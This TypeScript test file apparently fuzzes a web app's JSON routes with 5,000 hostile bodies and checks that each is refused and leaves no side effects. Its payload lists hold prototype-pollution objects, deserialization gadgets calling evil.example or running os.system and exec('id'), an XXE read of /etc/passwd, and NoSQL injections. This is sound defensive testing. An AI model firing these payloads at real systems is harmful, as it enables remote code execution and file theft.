import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { type Oracle, watch } from '../../gauntlet-oracle.ts'
import { PASSWORD, setUpAdmin } from '../../people.ts'
import { startServer, type TestServer } from '../../server.ts'
import { enlist, enter, type Person, seeded, upload } from './cast.ts'
import { type Shot, volley } from './volley.ts'

let server: TestServer
let oracle: Oracle
let admin: Person
let client: Person
let targets: Target[]

/** A JSON route with somebody who may use it and a body that it would take: so it is the body that is refused. */
type Target = { route: string; path: string; token?: string; body: Record<string, unknown> }

before(async () => {
  server = await startServer()
  await setUpAdmin(server)
  admin = await enter(server, 'ops', 'admin@firm.example')
  client = await enlist(server, 'client', 'clara@customer.example')
  const file = await upload(admin.client, 'Accounts.docx', { clients: [client.id] })
  const { body: group } = await admin.client.post('/api/v1/ops/groups', { name: 'Customer' })
  const token = 'x'.repeat(43)
  const [email, name, password] = ['new@customer.example', 'Nora', PASSWORD]
  const open: Target[] = [
    { route: 'POST /api/v1/client/signup', path: '', body: { email, name, password } },
    { route: 'POST /api/v1/client/verify', path: '', body: { token, password } },
    { route: 'POST /api/v1/client/verify/resend', path: '', body: { email } },
    { route: 'POST /api/v1/password/reset', path: '', body: { token, password } },
    { route: 'POST /api/v1/invitations/read', path: '', body: { token } },
    { route: 'POST /api/v1/invitations/accept', path: '', body: { token, name, password } },
  ]
  for (const door of ['ops', 'client']) {
    open.push({ route: `POST /api/v1/${door}/login`, path: '', body: { email, password } })
    open.push({ route: `POST /api/v1/${door}/login/mail`, path: '', body: { token, password } })
    open.push({ route: `POST /api/v1/${door}/password/forgot`, path: '', body: { email } })
  }
  const inside: Target[] = [
    { route: 'POST /api/v1/ops/invitations', path: '', body: { email, role: 'client', groups: [] } },
    { route: 'POST /api/v1/ops/groups', path: '', body: { name: 'Others' } },
    { route: 'PATCH /api/v1/ops/groups/:id', path: group.id, body: { name: 'Others' } },
    { route: 'PUT /api/v1/ops/groups/:id/members', path: group.id, body: { clients: [client.id] } },
    { route: 'PATCH /api/v1/ops/clients/:id', path: client.id, body: { disabled: true } },
    { route: 'PATCH /api/v1/ops/team/:id', path: admin.id, body: { disabled: true } },
    { route: 'PUT /api/v1/ops/files/:id/audience', path: file, body: { everyone: true } },
    { route: 'PATCH /api/v1/ops/files/:id', path: file, body: { tell_me: true } },
    { route: 'POST /api/v1/ops/files/:id/reminders', path: file, body: { clients: [client.id] } },
    {
      route: 'POST /api/v1/ops/handoffs',
      path: '',
      body: { files: [file], audience: { everyone: true }, note: 'Read it', notify: false, tell_me: false },
    },
  ]
  const theirs: Target[] = [
    { route: 'POST /api/v1/client/files/:id/link', path: file, body: { expires_in: 60, single_use: true } },
    { route: 'POST /api/v1/client/files/:id/confirm', path: file, body: { sha256: '0'.repeat(64) } },
  ]
  targets = [
    ...open,
    ...inside.map(target => ({ ...target, token: admin.token })),
    ...theirs.map(target => ({ ...target, token: client.token })),
  ].map(target => ({ ...target, path: (target.route.split(' ')[1] ?? '').replace(':id', target.path) }))
  oracle = watch(server)
})
after(() => server.stop())

test('every route that takes JSON is attacked here', () => {
  const taking = server.app.http.routeTable
    .filter(({ schema }) => schema?.body !== undefined)
    .flatMap(({ method, url }) => [method].flat().map(one => `${one} ${url}`))
  // Set-up is over: its route is not there any more for any body (gauntlet row 9).
  assert.deepEqual(
    taking.filter(route => route !== 'POST /api/v1/setup').sort(),
    targets.map(({ route }) => route).sort(),
  )
})

/** What reaches for the prototypes, in every spelling that JSON has for a key. */
const pollution = [
  '{"__proto__":{"admin":true}}',
  '{"__proto__":null}',
  '{"\\u005f\\u005fproto\\u005f\\u005f":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '{"\\u0063onstructor":{"prototype":{"role":"ops"}}}',
  '{"__proto__":{"__proto__":{"admin":true}}}',
  '{"__proto__.admin":true}',
  '{"constructor.prototype.admin":true}',
  '{"__defineGetter__":"x","__lookupGetter__":1}',
  '{"toString":"x","valueOf":"x","hasOwnProperty":1}',
  '[{"__proto__":{"admin":true}}]',
]

/** Objects that another program's deserialiser would have run. */
const gadgets = [
  '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
  '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/x","autoCommit":true}',
  '["java.util.HashSet",[["javax.swing.JEditorPane",{"page":"http://evil.example"}]]]',
  '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
  '{"py/object":"os.system","py/reduce":["id"]}',
  '{"!!python/object/apply:os.system":["id"]}',
  'O:8:"stdClass":1:{s:5:"admin";b:1;}',
  'a:1:{i:0;O:4:"Evil":0:{}}',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]',
  '--- !ruby/object:Gem::Installer\ni: x\n',
  '{"$where":"sleep(1000)","$gt":""}',
]

/** Not JSON, almost JSON, or JSON that hurts. */
const broken = [
  ...['{', '}', '[', '"', '{"a"', '{"a":', '{"a":1,}', "{'a':1}", '{a:1}', '{"a":1}{"b":2}', '{"a":1} x', '{"a":NaN}'],
  ...[
    '{"a":Infinity}',
    '{"a":01}',
    '{"a":+1}',
    '{"a":0x1}',
    '{"a":.5}',
    '{"a":1/*c*/}',
    '// c\n{}',
    '{"a":\t"\t"}',
    'undefined',
  ],
  ...['null', 'true', '0', '-0', '1e999', '""', '"text"', '[]', '[[]]', '[null]', '{}', '{"":""}', '{"":{"":{"":{}}}}'],
  ...['\ufeff{}', '\u2028', '{"a":"\\ud800"}', '{"a":"\\u0000"}', '{"a":"\\x41"}', `{"a":${'9'.repeat(400)}}`],
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `${'{"a":'.repeat(8000)}1${'}'.repeat(8000)}`,
  `[${'{},'.repeat(20_000)}{}]`,
  `{${Array.from({ length: 4000 }, (_, n) => `"k${n}":1`).join(',')}}`,
  `{"a":"${'\\u0041'.repeat(10_000)}"}`,
]

/** Values of every wrong kind for a field that takes text, a truth value, a number or a list. */
const wrong: unknown[] = [
  ...[
    null,
    {},
    [{}],
    [[]],
    { length: 1e9 },
    { 0: 'a', length: 1 },
    { toString: 'x' },
    JSON.parse('{"then":"x"}'),
    { toJSON: 'x' },
  ],
  ...[
    { $gt: '' },
    { $ne: null },
    { $regex: '.*' },
    1e308,
    -1,
    1.5,
    { admin: true },
    [null, null],
    ['a', ['b']],
    { constructor: 1 },
  ],
]

const noText = /"(admin|role)":/

/** Five thousand bodies, none of which its route may take: what is known above, and mixtures of it by a seed. */
const hostile = (): { target: Target; body: string | Buffer }[] => {
  const random = seeded(8)
  const pick = <T>(from: readonly T[]): T => {
    const one = from[Math.floor(random() * from.length)]
    if (one === undefined) throw new Error('nothing to pick')
    return one
  }
  const shots: { target: Target; body: string | Buffer }[] = []
  const whole = [...pollution, ...gadgets, ...broken]
  for (const target of targets) {
    const good = JSON.stringify(target.body)
    for (const body of whole) {
      // A link needs no field at all, and an audience of nobody is one.
      if (body === '{}' && /link|audience/.test(target.route)) continue
      if (body === 'null' && /link/.test(target.route)) continue
      shots.push({ target, body })
    }
    for (const field of Object.keys(target.body)) {
      for (const value of wrong) shots.push({ target, body: JSON.stringify({ ...target.body, [field]: value }) })
      for (const nested of pollution) {
        const text = JSON.stringify({ ...target.body, [field]: '@' })
        shots.push({ target, body: text.replace('"@"', () => nested) })
      }
    }
    // All that it takes, and one thing more.
    for (const extra of pollution.filter(text => text.startsWith('{')))
      shots.push({ target, body: `${good.slice(0, -1)},${extra.slice(1)}` })
    for (const bytes of [[0xff], [0xc3, 0x28], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xc0, 0xaf]])
      shots.push({
        target,
        body: Buffer.concat([Buffer.from(good.slice(0, -2)), Buffer.from(bytes), Buffer.from(good.slice(-2))]),
      })
    shots.push({ target, body: Buffer.from(good, 'utf16le') })
  }
  while (shots.length < 5000) {
    const target = pick(targets)
    const good = JSON.stringify(target.body)
    const at = 1 + Math.floor(random() * (good.length - 2))
    const piece = pick([...pollution, ...gadgets, '\0', '"', '\\', '}', ']', ',', ':', '\\u0000'])
    const body = good.slice(0, at) + piece + good.slice(at)
    // A text with an insertion may still be JSON that the route takes; only what cannot be counts here.
    if (isTaken(body, target)) continue
    shots.push({ target, body })
  }
  return shots
}

/** JSON with just the fields of the good body: then it is for the route's own rules, tested elsewhere. */
const isTaken = (body: string, { body: good }: Target): boolean => {
  try {
    const value: unknown = JSON.parse(body)
    return typeof value === 'object' && value !== null && Object.keys(value).every(key => Object.hasOwn(good, key))
  } catch {
    return false
  }
}

const prototypes = () =>
  [Object, Array, Function, String, Number, Boolean, Map, Set, Promise, Error, Buffer, Uint8Array, RegExp, Date].map(
    ({ name, prototype }) => `${name}: ${Reflect.ownKeys(prototype).map(String).sort().join()}`,
  )

test('5,000 hostile bodies: refused, nothing changed, the prototypes clean', async () => {
  const before = prototypes()
  const shots: Shot[] = hostile().map(({ target: { route, path, token }, body }) => ({
    method: route.split(' ')[0] ?? '',
    path,
    headers: { 'Content-Type': 'application/json', ...(token && { Authorization: `Bearer ${token}` }) },
    body,
  }))
  assert.ok(shots.length >= 5000, `${shots.length}`)
  const statuses = new Map<number, number>()
  await oracle.unchanged('a hostile body', () =>
    volley(server.url, shots, ({ status, head, text }, { method, path, body }) => {
      const what = `${method} ${path} ${String(body).slice(0, 300)}: ${status} ${text.slice(0, 300)}`
      assert.ok(status >= 400 && status < 500, what)
      assert.match(head, /^content-type: application\/problem\+json/im, what)
      assert.doesNotMatch(text, /node_modules|\.ts:|\bat \w+ \(/, what)
      assert.doesNotMatch(text, noText, what)
      statuses.set(status, (statuses.get(status) ?? 0) + 1)
    }),
  )
  assert.deepEqual(prototypes(), before)
  assert.equal(Reflect.get({}, 'admin'), undefined)
  assert.equal(Reflect.get({}, 'role'), undefined)
  // Refused for what they are, not because a limit was full.
  assert.deepEqual(
    [...statuses.keys()].filter(status => status !== 400 && status !== 413),
    [],
  )
})

test('bodies of other kinds are not looked into', async () => {
  const kinds = ['application/x-java-serialized-object', 'application/x-www-form-urlencoded', 'text/plain', 'text/xml']
    .concat([
      'application/xml',
      'application/yaml',
      'application/x-yaml',
      'application/vnd.api+json',
      'application/msgpack',
    ])
    .concat([
      'application/bson',
      'application/graphql',
      'multipart/form-data; boundary=x',
      'application/jsonp',
      'text/json',
    ])
  const shots = targets.flatMap(({ route, path, token, body }) =>
    kinds.map(type => ({
      method: route.split(' ')[0] ?? '',
      path,
      headers: { 'Content-Type': type, ...(token && { Authorization: `Bearer ${token}` }) },
      body: JSON.stringify(body),
    })),
  )
  await oracle.unchanged('another kind of body', () =>
    volley(server.url, shots, ({ status, text }, { path, headers }) => {
      assert.equal(status, 415, `${path} ${headers?.['Content-Type']} ${text}`)
    }),
  )
})

test('a session that was signed in before is no more than it was', async () => {
  assert.equal((await client.client.get('/api/v1/ops/files')).status, 403)
  assert.equal((await client.client.get('/api/v1/client/me')).body.admin, false)
  assert.equal((await server.client().get('/api/v1/ops/me')).status, 401)
})

test('no answer of 500, no connection away', () => oracle.verify())
